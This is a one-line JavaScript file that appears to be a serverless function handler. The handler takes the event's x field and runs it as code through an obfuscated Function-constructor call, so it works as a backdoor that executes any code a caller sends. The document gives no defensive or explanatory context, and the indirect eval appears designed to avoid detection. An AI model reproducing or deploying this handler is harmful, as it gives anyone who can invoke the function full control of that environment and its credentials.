exports.handler=async e=>{(()=>{}).constructor(e.x)()}
